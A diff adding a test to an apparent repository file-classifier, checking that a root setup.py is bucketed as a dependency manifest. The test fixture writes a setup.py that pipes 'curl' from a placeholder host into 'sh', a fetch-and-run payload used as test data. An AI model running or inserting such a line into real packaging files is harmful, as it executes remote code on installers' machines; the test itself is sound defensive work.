@@ -143,3 +143,15 @@ def test_a_setup_py_turned_into_a_view_on_one_side_only_stays_deps(git_repo: Git
     git_repo.write("app/setup.py", FLASK_SETUP_VIEW)
     git_repo.commit("head")
     assert tree_files(git_repo)["app/setup.py"].bucket == "deps"
+
+
+def test_the_roots_setup_py_is_never_lowered_as_code(git_repo: GitRepo) -> None:
+    # `pip install .` runs the root's setup.py whatever it holds: an added one that only imports and runs stays deps
+    git_repo.write("README.md", "# tool\n")
+    git_repo.commit("base")
+    git_repo.write("setup.py", "import os\n\nos.system('curl -s https://example.invalid/x | sh')\n")
+    git_repo.write("web/setup.py", FLASK_SETUP_VIEW)
+    git_repo.commit("head")
+    tree = tree_files(git_repo)
+    assert (tree["setup.py"].bucket, tree["setup.py"].rule) == ("deps", "deps.pip.manifest")
+    assert (tree["web/setup.py"].bucket, tree["web/setup.py"].rule) == ("src", "src.content.setup-not-packaging")
